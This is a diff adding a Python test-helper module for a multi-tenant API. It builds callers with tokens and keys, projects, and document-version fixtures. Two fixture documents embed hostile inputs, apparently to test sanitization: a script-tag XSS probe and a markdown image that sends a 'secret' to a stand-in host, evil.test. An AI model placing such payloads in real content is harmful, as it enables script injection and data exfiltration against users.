@@ -1,0 +1,119 @@
+"""Helpers of the API tests: callers (a user with a token and a key), projects, errors."""
+
+from __future__ import annotations
+
+import uuid
+from dataclasses import dataclass
+from typing import Any
+
+import httpx
+
+from jeex.auth import service as auth_service
+from jeex.db.session import Database
+
+SECRET = "test-secret-key-that-is-long-enough-for-hs256"
+PASSWORD = "correct horse battery"
+
+
+@dataclass
+class Caller:
+    """A user of one tenant, with a bearer token and an API key."""
+
+    tenant_slug: str
+    tenant_id: uuid.UUID
+    user_id: uuid.UUID
+    email: str
+    token: str
+    key: str
+
+    @property
+    def headers(self) -> dict[str, str]:
+        return {"Authorization": f"Bearer {self.token}"}
+
+    @property
+    def key_headers(self) -> dict[str, str]:
+        return {"Authorization": f"Bearer {self.key}"}
+
+
+async def make_caller(db: Database, client: httpx.AsyncClient, name: str) -> Caller:
+    slug = f"{name}-{uuid.uuid4().hex[:10]}"
+    email = f"{slug}@example.test"
+    user = await auth_service.create_user(db, email=email, password=PASSWORD, tenant_slug=slug)
+    key, _ = await auth_service.create_api_key(db, tenant_slug=slug, email=email)
+    response = await client.post(
+        "/api/v1/auth/token", data={"username": email, "password": PASSWORD}
+    )
+    assert response.status_code == 200, response.text
+    return Caller(slug, user.tenant_id, user.user_id, email, response.json()["access_token"], key)
+
+
+PROJECT = {
+    "name": "Grocery list",
+    "idea_description": "A shared grocery list app for families",
+    "target_audience": "busy parents",
+    "language": "en",
+}
+
+
+async def create_project(client: httpx.AsyncClient, caller: Caller, **overrides: Any) -> Any:
+    response = await client.post(
+        "/api/v1/projects", json={**PROJECT, **overrides}, headers=caller.headers
+    )
+    assert response.status_code == 201, response.text
+    return response.json()
+
+
+def assert_error(response: httpx.Response, status: int, name: str | None = None) -> None:
+    assert response.status_code == status, response.text
+    body = response.json()
+    assert set(body) == {"error", "detail"}, body
+    assert isinstance(body["detail"], str)
+    assert body["detail"]
+    if name is not None:
+        assert body["error"] == name, body
+
+
+@dataclass
+class World:
+    """One tenant's project with a run and two versions of a document."""
+
+    project_id: str
+    run_id: str
+    document_id: str
+
+
+async def make_world(db: Database, client: httpx.AsyncClient, caller: Caller) -> World:
+    from jeex.documents import service as documents_service
+
+    project = await create_project(client, caller)
+    run = await client.post(
+        f"/api/v1/projects/{project['id']}/step1", json={}, headers=caller.headers
+    )
+    assert run.status_code == 202, run.text
+    run_id = uuid.UUID(run.json()["id"])
+    async with db.tenant_session(caller.tenant_id) as session:
+        first = await documents_service.create_version(
+            session,
+            project_id=uuid.UUID(project["id"]),
+            run_id=run_id,
+            document_type="about",
+            epic_number=0,
+            title="About",
+            content="# About\n\nFirst line.\n\n<script>alert(1)</script>\n",
+            language="en",
+            metadata={"model": "test"},
+            created_by=caller.user_id,
+        )
+        await documents_service.create_version(
+            session,
+            project_id=uuid.UUID(project["id"]),
+            run_id=None,  # type: ignore[arg-type]
+            document_type="about",
+            epic_number=0,
+            title="About",
+            content="# About\n\nSecond line.\n\n![x](http://evil.test/?q=secret)\n",
+            language="en",
+            metadata={"model": "test"},
+            created_by=caller.user_id,
+        )
+    return World(project["id"], str(run_id), str(first.id))
